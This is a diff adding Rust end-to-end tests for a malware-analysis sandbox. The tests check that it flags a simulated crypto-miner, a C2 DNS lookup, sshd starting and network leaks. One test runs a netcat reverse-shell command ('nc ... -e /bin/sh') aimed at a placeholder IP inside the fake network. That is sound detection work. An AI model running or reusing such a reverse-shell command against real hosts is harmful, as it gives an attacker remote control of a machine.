@@ -1,0 +1,391 @@
+//! End-to-end runs on the local Docker Engine.
+//!
+//! Each test skips with a printed reason when Docker (or the `cordon-runsc` runtime, or root)
+//! is missing, unless `CORDON_REQUIRE_E2E` is set, in which case it fails. Test payloads only
+//! print and exit, and all their traffic stays in the fake internet's namespace.
+
+use std::path::PathBuf;
+use std::time::Duration;
+
+use cordon_sandbox::engine::{DockerEngine, Engine};
+use cordon_sandbox::report::Report;
+use cordon_sandbox::{ImageSource, NetworkProfile, RuntimeChoice, Sandbox, SandboxOptions};
+use tokio::sync::Mutex;
+
+/// Runs are serialised: the machine has few cores and the timing of short runs matters.
+static RUN_LOCK: Mutex<()> = Mutex::const_new(());
+
+const BUSYBOX_IMAGE: &str = "cordon-sandbox-test/busybox:1";
+
+fn required() -> bool {
+    std::env::var_os("CORDON_REQUIRE_E2E").is_some()
+}
+
+fn skip(reason: &str) -> Option<Sandbox<DockerEngine>> {
+    assert!(!required(), "CORDON_REQUIRE_E2E is set but {reason}");
+    eprintln!("skipping: {reason}");
+    None
+}
+
+async fn sandbox(runtime: RuntimeChoice) -> Option<Sandbox<DockerEngine>> {
+    if !nix::unistd::Uid::effective().is_root() {
+        return skip("the sandbox needs root (network namespaces, process events)");
+    }
+    let engine = match DockerEngine::connect().await {
+        Ok(e) => e,
+        Err(e) => return skip(&format!("no Docker Engine: {e}")),
+    };
+    if runtime == RuntimeChoice::Runsc {
+        let runtimes = engine.runtimes().await.unwrap_or_default();
+        if !runtimes
+            .iter()
+            .any(|r| r == cordon_sandbox::run::RUNSC_RUNTIME)
+        {
+            return skip(
+                "the cordon-runsc runtime is not registered (tests/register-runsc-runtime.sh)",
+            );
+        }
+    }
+    Some(Sandbox::new(engine))
+}
+
+async fn ensure_busybox(sandbox: &Sandbox<DockerEngine>) {
+    if sandbox.engine().inspect_image(BUSYBOX_IMAGE).await.is_ok() {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let archive = dir.path().join("busybox.tar");
+    let applets = [
+        "sh", "nc", "nslookup", "true", "sleep", "cat", "wget", "echo", "chmod", "rm",
+    ];
+    cordon_sandbox::holder::write_busybox_archive(
+        std::path::Path::new(cordon_sandbox::holder::BUSYBOX_PATH),
+        BUSYBOX_IMAGE,
+        &archive,
+        &applets,
+    )
+    .unwrap();
+    sandbox.engine().load_image(&archive).await.unwrap();
+}
+
+fn options(
+    image: ImageSource,
+    runtime: RuntimeChoice,
+    seconds: u64,
+    script: Option<&str>,
+) -> (SandboxOptions, tempfile::TempDir) {
+    let out = tempfile::tempdir().unwrap();
+    let options = SandboxOptions {
+        image,
+        duration: Duration::from_secs(seconds),
+        entrypoint: script.map(|_| vec!["/bin/sh".to_string(), "-c".to_string()]),
+        cmd: script.map(|s| vec![s.to_string()]),
+        env: Vec::new(),
+        runtime,
+        limits: Default::default(),
+        network: NetworkProfile::Fake,
+        output: out.path().to_path_buf(),
+        file_limits: Default::default(),
+    };
+    (options, out)
+}
+
+async fn run_busybox(runtime: RuntimeChoice, seconds: u64, script: &str) -> Option<Report> {
+    let sandbox = sandbox(runtime).await?;
+    let _guard = RUN_LOCK.lock().await;
+    ensure_busybox(&sandbox).await;
+    let (opts, _out) = options(
+        ImageSource::Engine(BUSYBOX_IMAGE.to_string()),
+        runtime,
+        seconds,
+        Some(script),
+    );
+    Some(sandbox.run(&opts).await.unwrap())
+}
+
+fn corpus_image(name: &str) -> Option<ImageSource> {
+    let dir = std::env::var_os("CORDON_CORPUS_DIR")
+        .map(PathBuf::from)
+        .unwrap_or_else(|| PathBuf::from("/var/cache/cordon/images/corpus"));
+    let archive = dir.join(format!("{name}.docker.tar"));
+    if archive.is_file() {
+        return Some(ImageSource::Archive(archive));
+    }
+    assert!(
+        !required(),
+        "CORDON_REQUIRE_E2E is set but {} is missing",
+        archive.display()
+    );
+    eprintln!("skipping: corpus image {} is missing", archive.display());
+    None
+}
+
+fn signal_ids(report: &Report) -> Vec<&str> {
+    report.signals.iter().map(|s| s.id.as_str()).collect()
+}
+
+#[tokio::test]
+async fn miner_simulation_is_malicious() {
+    let Some(image) = corpus_image("miner-sim") else {
+        return;
+    };
+    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
+        return;
+    };
+    let _guard = RUN_LOCK.lock().await;
+    let (opts, _out) = options(image, RuntimeChoice::Runsc, 20, None);
+    let report = sandbox.run(&opts).await.unwrap();
+    let ids = signal_ids(&report);
+    assert_eq!(
+        report.verdict,
+        Some(cordon_sandbox::signals::Verdict::Malicious),
+        "{ids:?}"
+    );
+    for expected in [
+        "mining-pool-domain",
+        "stratum-protocol",
+        "drop-and-execute",
+        "cron-persistence",
+    ] {
+        assert!(ids.contains(&expected), "{expected} missing from {ids:?}");
+    }
+    assert!(report
+        .dns
+        .iter()
+        .any(|d| d.name == "us-east.cryptonight-hub.miningpoolhub.com"));
+    let cmd = report
+        .files
+        .iter()
+        .find(|f| f.path == "/root/cmd.sh")
+        .expect("/root/cmd.sh recorded");
+    assert_eq!(cmd.kind, cordon_sandbox::events::FileKind::Script);
+    assert!(cmd.executed);
+    assert_eq!(cmd.sha256.as_ref().map(String::len), Some(64));
+    assert!(_out.path().join("report.json").is_file());
+    assert!(_out.path().join("capture.pcapng").is_file());
+}
+
+#[tokio::test]
+async fn nginx_is_benign_with_runtime_files_only() {
+    let Some(image) = corpus_image("nginx") else {
+        return;
+    };
+    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
+        return;
+    };
+    let _guard = RUN_LOCK.lock().await;
+    let (opts, _out) = options(image, RuntimeChoice::Runsc, 6, None);
+    let report = sandbox.run(&opts).await.unwrap();
+    assert_eq!(
+        report.verdict,
+        Some(cordon_sandbox::signals::Verdict::Benign),
+        "{:?}",
+        report.signals
+    );
+    assert!(
+        report.killed_at_deadline,
+        "nginx should still run at the deadline"
+    );
+    let allowed = [
+        "/run",
+        "/var",
+        "/var/lib",
+        "/var/lib/nginx",
+        "/var/cache",
+        "/var/cache/nginx",
+        "/var/log",
+        "/var/log/nginx",
+    ];
+    for f in &report.files {
+        let ok = allowed.contains(&f.path.as_str())
+            || f.path.starts_with("/var/lib/nginx/")
+            || f.path.starts_with("/var/cache/nginx/")
+            || f.path.starts_with("/var/log/nginx/")
+            || f.path == "/run/nginx.pid";
+        assert!(ok, "unexpected change {:?} {}", f.change, f.path);
+    }
+    assert!(report.files.iter().any(|f| f.path == "/run/nginx.pid"));
+}
+
+#[tokio::test]
+async fn fork_storm_recorded_in_full_on_runsc() {
+    let script = "i=0; while [ $i -lt 200 ]; do /bin/true; i=$((i+1)); done";
+    let Some(report) = run_busybox(RuntimeChoice::Runsc, 20, script).await else {
+        return;
+    };
+    let trues: Vec<_> = report
+        .processes
+        .iter()
+        .filter(|p| p.argv == ["/bin/true"])
+        .collect();
+    assert_eq!(trues.len(), 200);
+    assert!(trues.iter().all(|p| p.ppid == Some(1) && p.end.is_some()));
+}
+
+#[tokio::test]
+async fn fork_storm_exec_events_complete_on_runc() {
+    let script = "i=0; while [ $i -lt 200 ]; do /bin/true; i=$((i+1)); done";
+    let Some(report) = run_busybox(RuntimeChoice::Runc, 20, script).await else {
+        return;
+    };
+    let shell = report.processes.first().expect("the shell is recorded").pid;
+    let children: Vec<_> = report
+        .processes
+        .iter()
+        .filter(|p| p.ppid == Some(shell))
+        .collect();
+    assert_eq!(
+        children.len(),
+        200,
+        "execs without details: {}",
+        report.execs_without_details
+    );
+}
+
+#[tokio::test]
+async fn one_shot_dns_then_exit_captured() {
+    for runtime in [RuntimeChoice::Runsc, RuntimeChoice::Runc] {
+        let Some(report) =
+            run_busybox(runtime, 20, "nslookup c2.example.test 10.66.0.1; exit 0").await
+        else {
+            return;
+        };
+        assert!(!report.killed_at_deadline);
+        assert!(
+            report.dns.iter().any(|d| d.name == "c2.example.test"),
+            "{runtime:?}: {:?}",
+            report.dns
+        );
+        // On runc, an exec that ends before its /proc entry is read keeps only pid and parent.
+        let shell = report.processes.first().map(|p| p.pid);
+        let child = report
+            .processes
+            .iter()
+            .find(|p| p.ppid == shell && p.ppid.is_some());
+        assert!(child.is_some(), "{runtime:?}: no exec under the shell");
+        if runtime == RuntimeChoice::Runsc {
+            assert_eq!(
+                child.unwrap().argv.first().map(String::as_str),
+                Some("nslookup")
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn nc_reverse_shell_to_fake_c2_flagged() {
+    let script = "nc 198.51.100.7 4444 -e /bin/sh; exit 0";
+    let Some(report) = run_busybox(RuntimeChoice::Runsc, 10, script).await else {
+        return;
+    };
+    let ids = signal_ids(&report);
+    assert!(ids.contains(&"reverse-shell"), "{ids:?}");
+    assert!(
+        report
+            .flows
+            .iter()
+            .any(|f| f.dst_ip == "198.51.100.7" && f.dst_port == 4444),
+        "{:?}",
+        report.flows
+    );
+}
+
+/// Counts packets to the benchmark network in the host namespace while a container
+/// tries to reach them; the fake internet must answer everything and the host see nothing.
+#[tokio::test]
+async fn no_packet_leaves_the_sandbox() {
+    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
+        return;
+    };
+    if std::process::Command::new("nft")
+        .arg("--version")
+        .output()
+        .is_err()
+    {
+        skip("nft is not installed");
+        return;
+    }
+    let _guard = RUN_LOCK.lock().await;
+    ensure_busybox(&sandbox).await;
+    let table = format!("cordon_sbx_egress_{}", std::process::id());
+    let rules = format!(
+        "table inet {table} {{\n chain count_output {{ type filter hook output priority -300; ip daddr 198.18.0.0/15 counter; }}\n chain count_forward {{ type filter hook forward priority -300; ip daddr 198.18.0.0/15 counter; }}\n chain count_prerouting {{ type filter hook prerouting priority -300; ip daddr 198.18.0.0/15 counter; }}\n}}\n"
+    );
+    let status = std::process::Command::new("nft")
+        .arg("-f")
+        .arg("-")
+        .stdin(std::process::Stdio::piped())
+        .spawn()
+        .and_then(|mut c| {
+            use std::io::Write;
+            c.stdin.take().unwrap().write_all(rules.as_bytes())?;
+            c.wait()
+        });
+    assert!(
+        status.unwrap().success(),
+        "failed to add the counting table"
+    );
+    // 198.18.0.0/15 is reserved for benchmarks, so no other traffic on the host uses it.
+    let script = "nc -w 2 198.18.77.77 47999 </dev/null; nc -w 2 198.19.0.5 443 </dev/null; nslookup leak.example.test 198.18.53.53; exit 0";
+    let (opts, _out) = options(
+        ImageSource::Engine(BUSYBOX_IMAGE.to_string()),
+        RuntimeChoice::Runsc,
+        20,
+        Some(script),
+    );
+    let result = sandbox.run(&opts).await;
+    let listing = std::process::Command::new("nft")
+        .args(["list", "table", "inet", &table])
+        .output()
+        .unwrap();
+    let _ = std::process::Command::new("nft")
+        .args(["delete", "table", "inet", &table])
+        .status();
+    let report = result.unwrap();
+    let text = String::from_utf8_lossy(&listing.stdout);
+    let counters: Vec<&str> = text.lines().filter(|l| l.contains("counter")).collect();
+    assert_eq!(counters.len(), 3, "{text}");
+    for line in counters {
+        assert!(
+            line.contains("packets 0 bytes 0"),
+            "a packet reached the host namespace: {line}"
+        );
+    }
+    assert!(
+        report
+            .flows
+            .iter()
+            .any(|f| f.dst_ip == "198.18.77.77" && f.dst_port == 47999),
+        "{:?}",
+        report.flows
+    );
+    assert!(report.dns.iter().any(|d| d.name == "leak.example.test"));
+}
+
+#[tokio::test]
+async fn sshd_start_raises_signal() {
+    let Some(sandbox) = sandbox(RuntimeChoice::Runsc).await else {
+        return;
+    };
+    let _guard = RUN_LOCK.lock().await;
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/build-sshd-image.sh");
+    let built = std::process::Command::new("bash").arg(script).status();
+    if !matches!(built, Ok(s) if s.success()) {
+        skip("the sshd test image could not be built (needs corpus/debian-slim and the Debian mirror)");
+        return;
+    }
+    let (opts, _out) = options(
+        ImageSource::Engine("cordon-sandbox-test/sshd:1".to_string()),
+        RuntimeChoice::Runsc,
+        6,
+        None,
+    );
+    let report = sandbox.run(&opts).await.unwrap();
+    let ids = signal_ids(&report);
+    assert!(
+        ids.contains(&"sshd-started"),
+        "{ids:?} {:?}",
+        report.processes
+    );
+    assert!(report.processes.iter().any(|p| p.exe == "/usr/sbin/sshd"));
+}
